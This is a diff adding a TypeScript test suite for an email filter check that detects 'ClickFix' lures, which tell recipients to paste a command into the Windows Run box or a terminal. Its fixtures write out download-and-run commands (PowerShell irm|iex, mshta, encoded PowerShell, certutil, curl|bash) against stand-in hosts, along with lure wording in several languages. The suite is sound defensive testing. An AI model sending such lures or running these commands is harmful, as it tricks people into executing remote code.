@@ -1,0 +1,44 @@
+// The paste-command check ("ClickFix" by e-mail): a command that downloads and runs something, and
+// where to paste it, in the offices' languages and charsets. And the honest mail that has a part:
+// a vendor's support mail with a harmless command, a security newsletter naming the trick.
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { pasteCommandCheck, pasteCommandOptionsSchema } from '../../../src/pipeline/checks/paste-command.ts';
+import { dataContext, plainTextMail, quietLog, testConfig } from './util.ts';
+
+const config = testConfig({ 'smtp.localDomains': ['example.com'] });
+const store = undefined as unknown as Parameters<typeof pasteCommandCheck.run>[1]['store']; // the check keeps nothing
+
+async function run(raw: Buffer): Promise<string[]> {
+  const hits = await pasteCommandCheck.run(await dataContext(raw, {}),
+    { options: pasteCommandOptionsSchema.parse({}), config, store, log: quietLog, signal: new AbortController().signal });
+  return hits.map((h) => `${h.symbol}: ${h.detail}`);
+}
+const mail = (body: string, charset = 'utf-8'): Buffer => plainTextMail('IT Support <it-support@helpdesk.example>', 'carol@example.com', body, charset, 'Outlook');
+
+describe('commands to paste', () => {
+  it('the Outlook "certificate fix": PowerShell fetching a script and running it, pasted into the Run box', async () => {
+    const body = '1. Press the Windows key + R\n2. Copy the line below and paste it into the Run box (Ctrl+V)\n3. Press Enter\n\npowershell -w h -nop -c "irm https://cdn.o365-certfix.example/kb5041978 | iex"';
+    assert.deepEqual(await run(mail(body)), ['PASTE_COMMAND_LURE: a command that downloads and runs: "powershell -w h -nop -c "irm https://cdn.o365-certfix.example/kb5041978 | iex", to paste at "windows key + r"']);
+  });
+
+  it('in the offices\' languages and charsets, and the other commands that fetch and run', async () => {
+    const cases: Array<[string, string]> = [
+      ['Drücken Sie die Windows-Taste + R und fügen Sie ein: mshta https://verify.example/captcha.hta', 'iso-8859-15'],
+      ['Pulse la tecla Windows + R y pegue: powershell -enc SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlACkA', 'windows-1252'],
+      ['Premere il tasto Windows + R e incollare: cmd /c certutil -urlcache -split -f https://x.example/a.exe a.exe', 'iso-8859-15'],
+      ['Naciśnij klawisz Windows + R i wklej: powershell -c "iex (iwr https://x.example/fix.ps1)"', 'iso-8859-2'],
+      ['Нажмите клавиши Windows + R и вставьте: powershell -c "irm https://x.example/upd | iex"', 'koi8-r'],
+      ['Πατήστε το πλήκτρο Windows + R και επικολλήστε: powershell -c "irm https://x.example/upd | iex"', 'iso-8859-7'],
+      ['Open Terminal and paste: curl -fsSL https://x.example/install.sh | bash', 'us-ascii'],
+    ];
+    for (const [body, charset] of cases) assert.equal((await run(mail(body, charset))).length, 1, `${charset}: ${body}`);
+  });
+
+  it('not a harmless command, a command without where to paste it, or a newsletter naming the trick', async () => {
+    assert.deepEqual(await run(mail('Please press Windows + R, type outlook.exe /safe and press Enter.')), []);
+    assert.deepEqual(await run(mail('In PowerShell run: Get-Mailbox -Identity carol | Format-List')), []);
+    assert.deepEqual(await run(mail('Our script log: powershell -c "irm https://repo.example/tool.ps1 | iex" ran at 03:00 on the build server.')), []);
+    assert.deepEqual(await run(mail('Beware of "ClickFix": fake pages ask you to press Windows + R and paste a command. Never do it.')), []);
+  });
+});
